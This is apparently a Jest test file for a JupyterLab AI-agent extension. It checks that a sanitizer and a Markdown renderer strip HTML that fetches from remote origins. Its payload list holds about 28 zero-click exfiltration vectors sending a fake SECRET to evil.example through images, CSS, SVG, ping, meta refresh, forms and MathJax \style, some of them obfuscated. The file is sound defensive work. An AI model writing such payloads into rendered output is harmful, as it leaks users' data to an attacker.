import { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import { nullTranslator } from '@jupyterlab/translation';
import { render, waitFor } from '@testing-library/react';
import * as React from 'react';

import { Markdown } from '../components/Markdown';
import { stripRemoteLoads, withoutTexStyles } from '../remoteContent';
import { makeCommands, makeRendermime } from './rendermime';

const trans = nullTranslator.load('hdsp_agent');

/**
 * Everything under `root` that would make the browser fetch from another origin without a click
 * (the test page's origin is jsdom's http://localhost). Empty when the DOM is safe.
 */
function remoteFetchers(root: ParentNode): string[] {
  const found: string[] = [];
  const here = new URL(document.baseURI).origin;
  const remote = (value: string, image: boolean) => {
    const url = new URL(value, document.baseURI);
    if (url.protocol === 'data:') {
      return !(image && url.pathname.startsWith('image/'));
    }
    return url.origin !== here;
  };
  for (const element of Array.from(root.querySelectorAll('*'))) {
    const tag = element.localName;
    if (
      [
        'link',
        'style',
        'meta',
        'base',
        'iframe',
        'frame',
        'object',
        'embed',
        'svg',
        'image',
        'use',
        'feimage',
        'form',
        'math'
      ].includes(tag.toLowerCase())
    ) {
      found.push(`<${tag}>`);
    }
    for (const attribute of [
      'srcset',
      'imagesrcset',
      'poster',
      'ping',
      'background',
      'style',
      'action',
      'formaction',
      'data',
      'lowsrc',
      'dynsrc',
      'xlink:href',
      'data-commandlinker-command'
    ]) {
      if (element.hasAttribute(attribute)) {
        found.push(`<${tag} ${attribute}>`);
      }
    }
    const href = element.getAttribute('href');
    if (href !== null && !['a', 'area'].includes(tag)) {
      found.push(`<${tag} href>`);
    }
    const src = element.getAttribute('src');
    if (src !== null && remote(src, ['img', 'input'].includes(tag))) {
      found.push(`<${tag} src=${src}>`);
    }
  }
  return found;
}

/**
 * What an attacker's model could write, each aimed at https://evil.example with a fake secret.
 */
const VECTORS: [string, string][] = [
  ['img', '<img src="https://evil.example/x.png?q=SECRET">'],
  ['uppercase', '<IMG SRC="HTTPS://EVIL.EXAMPLE/a.png?q=SECRET">'],
  ['protocol-relative', '<img src="//evil.example/a.png?q=SECRET">'],
  ['entities', '<img src="&#104;ttps&#x3a;//evil.example/e.png?q=SECRET">'],
  ['backslashes', '<img src="https:\\\\evil.example\\b.png">'],
  ['spaces', '<img src="  https://evil.example/s.png\t">'],
  ['srcset', '<img srcset="https://evil.example/1x.png 1x" alt="x">'],
  [
    'picture',
    '<picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.png"></picture>'
  ],
  [
    'video',
    '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>'
  ],
  [
    'video source',
    '<video controls><source src="https://evil.example/v.webm"><track src="https://evil.example/t.vtt"></video>'
  ],
  ['audio', '<audio src="https://evil.example/a.mp3" autoplay></audio>'],
  ['link prefetch', '<link rel="prefetch" href="https://evil.example/l">'],
  ['style import', '<style>@import url(https://evil.example/s.css);</style>'],
  [
    'inline style',
    '<div style="background-image: url(https://evil.example/b.png)">x</div>'
  ],
  [
    'inline style, escaped',
    '<span style="background: u\\72 l(https://evil.example/c.png)">x</span>'
  ],
  ['svg image', '<svg><image href="https://evil.example/i.png"></image></svg>'],
  [
    'svg xlink',
    '<svg><image xlink:href="https://evil.example/x.png"></image></svg>'
  ],
  ['svg use', '<svg><use href="https://evil.example/u.svg#x"></use></svg>'],
  [
    'a ping',
    '<a href="https://example.org/" ping="https://evil.example/p">ok</a>'
  ],
  [
    'meta refresh',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
  ],
  ['base', '<base href="https://evil.example/">'],
  [
    'form',
    '<form action="https://evil.example/f"><button formaction="https://evil.example/g">go</button></form>'
  ],
  ['iframe', '<iframe src="https://evil.example/frame"></iframe>'],
  ['object', '<object data="https://evil.example/o"></object>'],
  ['embed', '<embed src="https://evil.example/e">'],
  ['input image', '<input type="image" src="https://evil.example/i.png">'],
  [
    'table background',
    '<table background="https://evil.example/t.png"></table>'
  ],
  [
    'command linker',
    '<button data-commandlinker-command="terminal:create-new">Click</button>'
  ]
];

describe('stripRemoteLoads', () => {
  // Straight HTML, no JupyterLab sanitizer before it: this layer holds on its own.
  it.each(VECTORS)('leaves nothing that fetches: %s', (_name, html) => {
    const host = document.createElement('div');
    host.innerHTML = stripRemoteLoads(html);
    expect(remoteFetchers(host)).toEqual([]);
    expect(host.innerHTML).not.toMatch(
      /evil\.example[^"<]*"[^>]*(src|srcset|poster|ping|background|style)=/i
    );
  });

  it('checks the checker: the raw vectors do fetch', () => {
    for (const [name, html] of VECTORS) {
      const host = document.createElement('div');
      host.innerHTML = html;
      expect([name, remoteFetchers(host).length > 0]).toEqual([name, true]);
    }
  });

  it('turns an external image into a link that shows its URL', () => {
    const host = document.createElement('div');
    host.innerHTML = stripRemoteLoads(
      '<p>See <img src="https://evil.example/x.png?q=SECRET" alt="chart"></p>'
    );
    const link = host.querySelector('a')!;
    expect(link.getAttribute('href')).toBe(
      'https://evil.example/x.png?q=SECRET'
    );
    expect(link.textContent).toContain('https://evil.example/x.png?q=SECRET');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.title).toBe('chart');
    expect(host.querySelector('img')).toBeNull();
  });

  it('keeps data images, same-origin images and ordinary links', () => {
    const dataImage = 'data:image/png;base64,iVBORw0KGgo=';
    const host = document.createElement('div');
    host.innerHTML = stripRemoteLoads(
      `<img src="${dataImage}"><img src="plot.png"><img src="/files/a.png">` +
        '<a href="https://example.org/doc">doc</a>'
    );
    expect(
      Array.from(host.querySelectorAll('img')).map(img =>
        img.getAttribute('src')
      )
    ).toEqual([dataImage, 'plot.png', '/files/a.png']);
    expect(host.querySelector('a')!.getAttribute('href')).toBe(
      'https://example.org/doc'
    );
  });

  it('does not make a javascript: image into a clickable link', () => {
    const host = document.createElement('div');
    host.innerHTML = stripRemoteLoads('<img src="javascript:alert(1)">');
    expect(host.querySelector('a')).toBeNull();
    expect(host.querySelector('img')).toBeNull();
  });
});

describe('Markdown with remote content', () => {
  it.each(VECTORS)(
    'renders through rendermime with nothing that fetches: %s',
    async (_name, html) => {
      const { commands } = makeCommands();
      const { container } = render(
        <Markdown
          source={`Before ${html} after`}
          rendermime={makeRendermime()}
          commands={commands}
          trans={trans}
        />
      );
      await waitFor(() => expect(container.textContent).toContain('after'));
      expect(remoteFetchers(container)).toEqual([]);
    }
  );

  it('turns off DNS prefetching before a link is shown', async () => {
    document.head
      .querySelectorAll('meta[http-equiv="x-dns-prefetch-control"]')
      .forEach(meta => meta.remove());
    const { commands } = makeCommands();
    const { container } = render(
      <Markdown
        source={'<a href="https://SECRET.evil.example/">docs</a>'}
        rendermime={makeRendermime()}
        commands={commands}
        trans={trans}
      />
    );
    await waitFor(() => expect(container.querySelector('a')).toBeTruthy());
    const metas = document.head.querySelectorAll(
      'meta[http-equiv="x-dns-prefetch-control"]'
    );
    expect(metas).toHaveLength(1);
    expect(metas[0].getAttribute('content')).toBe('off');
  });

  it('shows the external image as a link with its URL', async () => {
    const { commands } = makeCommands();
    const { container } = render(
      <Markdown
        source={'Here: <img src="https://evil.example/x.png?q=SECRET">'}
        rendermime={makeRendermime()}
        commands={commands}
        trans={trans}
      />
    );
    await waitFor(() =>
      expect(container.querySelector('a.jp-hdsp-RemoteContent')).toBeTruthy()
    );
    const link = container.querySelector('a.jp-hdsp-RemoteContent')!;
    expect(link.getAttribute('href')).toBe(
      'https://evil.example/x.png?q=SECRET'
    );
    expect(link.textContent).toBe(
      'External image, not loaded: https://evil.example/x.png?q=SECRET'
    );
  });
});

describe('withoutTexStyles', () => {
  it('hands MathJax \\class where the text said \\style', async () => {
    const seen: string[] = [];
    const inner: IRenderMime.ILatexTypesetter = {
      typeset: (element: HTMLElement) => {
        seen.push(element.textContent ?? '');
      }
    };
    const host = document.createElement('div');
    host.innerHTML =
      '<p>$\\style{background:url(https://evil.example/m)}{x}$ and ' +
      '$\\let\\s\\style \\s{a}{b}$ and $\\stylex$</p>';
    await withoutTexStyles(inner).typeset(host);
    expect(seen[0]).not.toMatch(/\\style(?![a-z])/);
    expect(seen[0]).toContain(
      '\\class{background:url(https://evil.example/m)}{x}'
    );
    expect(seen[0]).toContain('\\let\\s\\class');
    expect(seen[0]).toContain('\\stylex');
  });
});
